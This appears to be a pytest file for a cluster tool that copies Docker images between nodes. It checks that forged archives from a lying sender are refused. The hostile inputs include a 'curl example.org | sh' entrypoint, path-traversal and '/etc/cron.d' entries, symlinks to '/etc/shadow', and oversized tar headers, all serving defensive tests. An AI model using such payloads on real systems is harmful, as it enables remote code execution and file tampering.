"""Copies of images between two real workers, and what a sender that lies can do to the receiver: nothing."""

from __future__ import annotations

import dataclasses
import gzip
import io
import json
import random
import tarfile
import tracemalloc
from types import SimpleNamespace
from typing import Any

import pytest

from sparkcluster.errors import LayersAbsent, StageError
from sparkcluster.hosts import program
from sparkcluster.hosts.fleet import Fleet
from sparkcluster.node.image_archive import Archive
from sparkcluster.node.wire import Failed
from sparkcluster.staging.copy import Step
from sparkcluster.staging.copy_request import Files
from sparkcluster.staging.job import Job
from sparkcluster.topology.build import build
from tests.unit.staging.archives import ImageMade, sha256, tar
from tests.unit.staging.world import on_this_machine

IMAGE = ImageMade([b"layer" * 500_000, b"other layer" * 1000])
SMALL = ImageMade([b"one" * 300, b"two" * 300])


@pytest.fixture
def pair(node, lease):
    """A sender and a receiver."""
    return node("a"), node("b")


@pytest.fixture
def move(lease, spark, cluster):
    """Copies from one node to another by a worker on each; the bytes that moved, and the ID that the receiver has."""
    step = Step("stage image", lambda _: lease.document(), lambda: False)

    def move(source, target, sending, receiving):
        nodes, size = {source.name: source, target.name: target}, max(1, receiving["bytes"])
        facts = {
            name: on_this_machine(spark({"enp1s0f0np0": f"127.1.0.{place}/24"}, management=f"127.2.0.{place}/24"))
            for place, name in enumerate(sorted(nodes), 11)
        }
        requests = {
            name: {**request, "root": f"{name} {request['reference']}", "images_dir": str(nodes[name].home),
                   "source": source.name}
            for name, request in ((source.name, sending), (target.name, receiving))
        }  # fmt: skip
        files = [{"path": "image", "size": size, "mtime": 0, "sha256": None, "links": []}]
        topology = build(cluster({name: name for name in sorted(nodes)}), facts)
        job = Job(step, Fleet(nodes), facts, topology, Files("image", requests, files))
        job.run()
        arrived = job.arrived.get(target.name)
        return SimpleNamespace(bytes=arrived.bytes if arrived else 0, image_id=job.image_ids().get(target.name))

    return move


def sends(node, archive: bytes, image: ImageMade = IMAGE) -> None:
    """The node has the image, and its Docker prints this as its archive."""
    node.add_image(image, "vllm:v1")
    (node.docker / "sent").write_bytes(archive)


def passed(
    data: bytes, image: ImageMade = SMALL, piece: int = 10_000, here: dict[str, Any] | None = None, **request: Any
) -> dict[str, bytes]:
    """What ``docker load`` gets to read of an archive: content by name. ``here`` is what the receiver has."""
    out = io.BytesIO()
    chunks = (data[at : at + piece] for at in range(0, len(data), piece))
    Archive(chunks, out.write).relay(image.request(**request), **(here or {}))
    with tarfile.open(fileobj=io.BytesIO(out.getvalue())) as archive:
        members = archive.getmembers()
        assert len({member.name for member in members}) == len(members)
        assert all(member.isreg() for member in members)
        return {member.name: archive.extractfile(member).read() for member in members}


def listed(data: bytes, **more: Any) -> list[dict[str, Any]]:
    """The images of which ``docker load`` learns."""
    found = json.loads(passed(data, **more)["manifest.json"])
    assert isinstance(found, list)
    return found


def test_an_image_is_loaded_under_its_own_name_and_sent_once(pair, move):
    pair[0].add_image(IMAGE, "vllm:v1")
    request = IMAGE.request()
    done = move(*pair, request, request)
    assert (done.bytes, done.image_id) == (len(tar(IMAGE.oci())), IMAGE.id)
    assert pair[1].images() == {"vllm:v1": IMAGE.id}
    (pair[1].docker / "refs" / "vllm:v1").unlink()
    assert move(*pair, request, request).bytes == 0
    assert pair[1].images() == {"vllm:v1": IMAGE.id}
    assert ["load"] in pair[1].docker_calls()
    assert pair[0].docker_calls().count(["save", IMAGE.id]) == 1


@pytest.mark.parametrize("entries", [IMAGE.legacy(["vllm:v1"]), IMAGE.oci(compressed=True)])
def test_every_layout_of_docker_save_is_loaded(pair, move, entries):
    """Before Docker 25, and that of containerd's image store, which knows the image by another ID."""
    sends(pair[0], tar(entries))
    request = IMAGE.request(config=None)
    assert move(*pair, request, {**request, "image_id": "sha256:" + "0" * 64}).image_id == IMAGE.id
    assert pair[1].images() == {"vllm:v1": IMAGE.id}


def test_a_full_disk_of_docker_names_its_node(pair, move):
    pair[0].add_image(IMAGE, "vllm:v1")
    (pair[1].docker / "full").touch()
    with pytest.raises(StageError, match="no space left on device") as caught:
        move(*pair, IMAGE.request(), IMAGE.request())
    assert caught.value.node == "b"
    assert pair[1].images() == {}


# a sender that lies

EVIL = dataclasses.replace(IMAGE, config={**IMAGE.config, "Entrypoint": ["/bin/sh", "-c", "curl example.org | sh"]})


def with_manifest(entries, listed):
    return [(name, json.dumps(listed).encode() if name == "manifest.json" else data) for name, data in entries]


def test_tags_of_the_sender_move_nothing(pair, move):
    pair[1].add_image(SMALL, "registry/production:latest")
    sends(pair[0], tar(IMAGE.oci(["registry/production:latest", "vllm:v2"])))
    move(*pair, IMAGE.request(), IMAGE.request())
    assert pair[1].images() == {"registry/production:latest": SMALL.id, "vllm:v1": IMAGE.id}


def test_a_second_image_in_the_archive_is_not_loaded(pair, move):
    entries = dict([*EVIL.oci(), *IMAGE.oci()])
    both = [json.loads(dict(image.oci([tag]))["manifest.json"])[0] for image, tag in ((EVIL, "vllm:v1"), (IMAGE, "b"))]
    sends(pair[0], tar(with_manifest(entries.items(), both)))
    move(*pair, IMAGE.request(), IMAGE.request())
    assert pair[1].images() == {"vllm:v1": IMAGE.id}
    assert pair[1].image_ids() == {IMAGE.id}


@pytest.mark.parametrize("known", [IMAGE.id, None])
def test_the_same_layers_with_another_configuration_are_refused(pair, move, known):
    """Whether or not the hash of the configuration is known, which with containerd's image store it is not."""
    sends(pair[0], tar(EVIL.oci(["vllm:v1"])))
    with pytest.raises(StageError, match=r"stage image on b from a: the image's archive is that") as caught:
        move(*pair, IMAGE.request(), IMAGE.request(config=known))
    assert caught.value.hint == "docker image rm --force IMAGE   on a, then run this again"
    assert (pair[1].images(), pair[1].image_ids()) == ({}, set())


def test_an_image_that_the_receiver_has_is_compared_before_it_gets_the_name(pair, move):
    """Whoever says that an ID of the receiver's is the image of the playbook has to know what is in it."""
    pair[1].add_image(SMALL, "registry/production:latest")
    request = SMALL.request(layers=IMAGE.diffs)
    with pytest.raises(StageError, match=f"received {SMALL.id} instead of {SMALL.id}"):
        move(*pair, request, request)
    assert pair[1].images() == {"registry/production:latest": SMALL.id}


def test_an_archive_without_end_is_refused(pair, move, set_source):
    real = program.source
    set_source(
        lambda module, engine: real(module, engine).replace("_SPARE_BYTES = 4, 1 << 30", "_SPARE_BYTES = 4, 1 << 20")
    )
    sends(pair[0], tar([*SMALL.oci(), ("more", b"x" * (8 << 20))]), image=SMALL)
    with pytest.raises(StageError, match="archive is larger than the image"):
        move(*pair, SMALL.request(), SMALL.request(size=1))


def link(name: str, target: str, kind: bytes) -> tarfile.TarInfo:
    info = tarfile.TarInfo(name)
    info.linkname, info.type = target, kind
    return info


def sized(name: str, size: int) -> bytes:
    info = tarfile.TarInfo(name)
    info.size = size
    return info.tobuf(tarfile.GNU_FORMAT)


def extended(text: bytes, size: int | None = None) -> bytes:
    info = tarfile.TarInfo("pax")
    info.type, info.size = tarfile.XHDTYPE, len(text) if size is None else size
    return info.tobuf(tarfile.GNU_FORMAT) + text + bytes(-len(text) % 512)


LAYER = "blobs/sha256/" + SMALL.diffs[0][7:]
CONFIG = "blobs/sha256/" + SMALL.id[7:]
HONEST = tar(SMALL.oci())
WITHOUT = [entry for entry in SMALL.oci() if entry[0] != LAYER]
BARE = [(CONFIG, SMALL.text)]


@pytest.mark.parametrize(
    ("data", "said"),
    [
        (tar([*WITHOUT, (LAYER, b"evil" * 225)]), "with another hash"),
        (tar([*SMALL.oci(), (LAYER, SMALL.layers[0])]), "twice"),
        (tar([(link(LAYER, "/etc/shadow", tarfile.SYMTYPE), b""), *BARE]), "lacks a layer"),
        (tar([entry for entry in SMALL.legacy() if entry[0] != SMALL.id[7:] + ".json"]), "another image"),
        (HONEST[: len(HONEST) // 2], "truncated"),
        (b"not a tar" * 1000, "damaged"),
        (sized(LAYER, 1 << 60) + b"x" * 10_000, "truncated"),
        (sized(LAYER, -512) + HONEST, "header of -512 bytes"),
        (extended(b"", 1 << 40) + HONEST, "header of 1099511627776 bytes"),
        (tar([(f"{number:064x}/layer.tar", b"%d" % number) for number in range(2_001)]), "more than 2000 files"),
    ],
)
def test_a_falsified_archive_is_refused(data, said):
    with pytest.raises(Failed, match=said) as caught:
        passed(data)
    assert caught.value.kind == "archive"


def test_an_archive_without_the_files_that_it_names_is_told_from_one_of_another_image():
    """What ``docker save`` of containerd's store writes of an image whose layers it has compressed otherwise."""
    with pytest.raises(Failed, match="the image's archive lacks 1 of the files that it names") as caught:
        passed(tar(WITHOUT), config=None)
    assert caught.value.kind == "blobs"


@pytest.mark.parametrize(
    "text",
    [
        b"{",
        b'{"rootfs": ' + b"[" * 100_000,
        json.dumps({"rootfs": {"diff_ids": 7}, "config": {}}).encode(),
        json.dumps({"rootfs": {"diff_ids": SMALL.diffs}, "config": {"Env": [1, "a"]}}).encode(),
        json.dumps({"config": {"digest": SMALL.id}, "layers": [{}]}).encode(),
    ],
)
def test_documents_of_any_shape_are_no_image(text):
    blobs = [(f"blobs/sha256/{sha256(data)}", data) for data in (text, *SMALL.layers)]
    with pytest.raises(Failed, match="another image"):
        passed(tar(blobs), config=None)
    passed(tar([*blobs, (CONFIG, SMALL.text)]), config=None)


def test_what_passes_is_not_kept_in_memory():
    chunks = [sized(LAYER, 64 << 20), *[bytes(1 << 20)] * 64, bytes(1024)]
    tracemalloc.start()
    with pytest.raises(Failed):
        Archive(iter(chunks), lambda _: None).relay(SMALL.request())
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert peak < 24 << 20


def test_only_layers_and_documents_pass():
    entries = [
        ("../../outside", b"x"), ("/etc/cron.d/x", b"x"), ("repositories", b'{"a": {"latest": "x"}}'),
        (link("blobs/sha256", "/etc", tarfile.SYMTYPE), b""), (LAYER + "\n", b"x"), (LAYER + "/x", b"x"),
        (LAYER.upper(), b"x"), (tarfile.TarInfo("x" * 300), b"long name"), *SMALL.oci(["evil:latest"]),
        ("blobs/sha256/" + sha256(b"more"), b"more"),
    ]  # fmt: skip
    found = passed(tar(entries, tarfile.GNU_FORMAT))
    names = {"manifest.json", "index.json", "oci-layout", "blobs/sha256/" + sha256(b"more")}
    assert found.keys() == names | {name for name, _ in SMALL.oci() if not name.endswith("/")}
    assert json.loads(found["manifest.json"]) == [
        {"Config": CONFIG, "RepoTags": None, "Layers": ["blobs/sha256/" + diff[7:] for diff in SMALL.diffs]}
    ]
    (manifest,) = json.loads(found["index.json"])["manifests"]
    assert manifest["digest"] == "sha256:" + sha256(SMALL.manifest(SMALL.layers))


@pytest.mark.parametrize("piece", [1, 513, 1 << 20])
def test_pieces_of_any_size_and_extended_headers_are_read(piece):
    """Docker writes an extended header for layers over 8 GiB."""
    entries = [(f"blobs/sha256/{sha256(data)}", data) for data in (*SMALL.layers, SMALL.text)]
    first = tar(entries[:1])[: 512 + 1024]
    assert first[:13] == b"blobs/sha256/"
    small = tarfile.TarInfo(entries[0][0])
    whole = extended(b"13 size=900\n") + small.tobuf() + first[512:] + tar(entries[1:])
    assert passed(whole, piece=piece)[entries[0][0]] == SMALL.layers[0]


def test_a_changed_archive_is_refused_or_loads_the_same():
    """Bytes that are changed, lost or repeated, wherever they are."""
    chance = random.Random(8)
    refused = 0
    for _ in range(300):
        data = bytearray(HONEST)
        for _ in range(chance.randint(1, 4)):
            at, size = chance.randrange(len(data)), chance.choice((1, 1, 1, 8, 512, 1024))
            change = chance.randrange(3)
            data[at : at + size] = (chance.randbytes(size), b"", data[at : at + 2 * size])[change]
        try:
            found = listed(bytes(data))
        except Failed as error:
            refused += error.kind == "archive"
            continue
        assert found == listed(HONEST)
    assert 60 < refused < 300


# an image of which the receiver has layers

OLD = ImageMade([b"base" * 200_000, b"middle" * 200_000, b"top" * 1000])
NEW = ImageMade([*OLD.layers[:2], b"new top" * 1000])


def having(image: ImageMade, *present: bytes) -> dict[str, Any]:
    """Of each layer of ``image`` the file that the receiver has, without one where it is not ``present``."""
    return {"have": ["" if layer in present else None for layer in image.layers]}


def test_only_the_layers_that_the_receiver_lacks_are_sent(pair, move):
    """Both engines store layers by their content; the other image is still whole afterwards."""
    pair[0].add_image(NEW, "vllm:v1")
    pair[1].add_image(OLD, "vllm:v0")
    request = NEW.request(**having(NEW, *OLD.layers))
    done = move(*pair, request, request)
    assert done.image_id == NEW.id
    assert done.bytes < len(NEW.layers[2]) + 20_000
    assert pair[1].images() == {"vllm:v0": OLD.id, "vllm:v1": NEW.id}
    pair[0].docker.joinpath("images", NEW.id).unlink()
    assert move(pair[1], pair[0], NEW.request(), NEW.request()).bytes > 2_000_000


def test_between_stores_of_containerd_files_are_left_out_wherever_they_are(pair, move):
    """By their own hash, which both have recorded of the first copy: also above a layer that differs."""
    for node in pair:
        (node.docker / "containerd").touch()
    other = ImageMade([b"new base" * 1000, *OLD.layers[1:]])
    pair[0].add_image(OLD, "vllm:v0")
    move(*pair, OLD.request("vllm:v0", config=None), OLD.request("vllm:v0", config=None))
    pair[0].add_image(other, "vllm:v1")
    files = [sha256(gzip.compress(layer, mtime=0)) for layer in other.layers]
    request = other.request(config=None, have=[None, *files[1:]])
    done = move(*pair, request, request)
    assert done.image_id == other.id
    whole = len((pair[0].docker / "images" / other.id).read_bytes())
    left_out = sum(len(gzip.compress(layer, mtime=0)) for layer in other.layers[1:])
    assert whole - left_out - 2048 <= done.bytes <= whole - left_out


def test_layers_that_are_gone_since_the_controller_looked_are_an_error_of_their_own(pair, move):
    """Which makes the controller copy all of them."""
    pair[0].add_image(NEW, "vllm:v1")
    pair[1].add_image(SMALL, "other:v1")
    request = NEW.request(**having(NEW, *OLD.layers))
    with pytest.raises(LayersAbsent, match="lacks files that are not here either"):
        move(*pair, request, request)
    assert pair[1].image_ids() == {SMALL.id}


def without(image: ImageMade, *places: int, compressed: bool = False) -> bytes:
    """The archive of ``image`` without its layers at ``places``."""
    layers = [gzip.compress(layer, mtime=0) if compressed else layer for layer in image.layers]
    gone = {"blobs/sha256/" + sha256(layers[place]) for place in places}
    return tar([entry for entry in image.oci(compressed=compressed) if entry[0] not in gone])


BLOBS = [sha256(gzip.compress(layer, mtime=0)) for layer in NEW.layers]


@pytest.mark.parametrize(
    ("absent", "compressed", "here"),
    [
        ((0, 1), False, {"prefix": 2}),
        ((), False, {"prefix": 3}),
        ((0, 1), True, {"prefix": 2}),
        ((0, 2), True, {"blobs": {BLOBS[0]: NEW.diffs[0], BLOBS[2]: NEW.diffs[2]}}),
    ],
)
def test_layers_that_the_receiver_has_may_be_absent(absent, compressed, here):
    found = passed(without(NEW, *absent, compressed=compressed), image=NEW, config=None, here=here)
    (image,) = json.loads(found["manifest.json"])
    names = BLOBS if compressed and absent != () else [diff[7:] for diff in NEW.diffs]
    assert image["Layers"] == ["blobs/sha256/" + name for name in names]


@pytest.mark.parametrize(
    ("absent", "compressed", "here"),
    [
        ((2,), False, {"prefix": 2}),
        ((0, 1), True, {"blobs": {BLOBS[1]: NEW.diffs[1]}}),
        ((1,), True, {"blobs": {BLOBS[1]: NEW.diffs[0]}}),
        ((1,), False, {"blobs": {BLOBS[1]: NEW.diffs[1]}}),
    ],
)
def test_no_other_layer_may_be_absent(absent, compressed, here):
    """Also none that the receiver has as another layer, or as a file that the manifest does not name."""
    with pytest.raises(Failed, match="lacks files that are not here either") as caught:
        passed(without(NEW, *absent, compressed=compressed), image=NEW, config=None, here=here, have=[""] * 3)
    assert caught.value.kind == "partial"


@pytest.mark.parametrize("here", [{"prefix": 3}, {"blobs": dict(zip(BLOBS, NEW.diffs, strict=True))}])
def test_what_comes_although_it_may_be_absent_is_checked_all_the_same(here):
    entries = [(name, b"evil" if name == LAYERS[0] else data) for name, data in NEW.oci()]
    with pytest.raises(Failed, match="with another hash"):
        passed(tar(entries), image=NEW, here=here)
    evil = dataclasses.replace(NEW, config={**NEW.config, "Entrypoint": ["/bin/sh"]})
    with pytest.raises(Failed, match="lacks files that are not here either"):
        passed(without(evil, 0, 1), image=NEW, config=None, here=here, have=[""] * 3)


LAYERS = ["blobs/sha256/" + diff[7:] for diff in NEW.diffs]
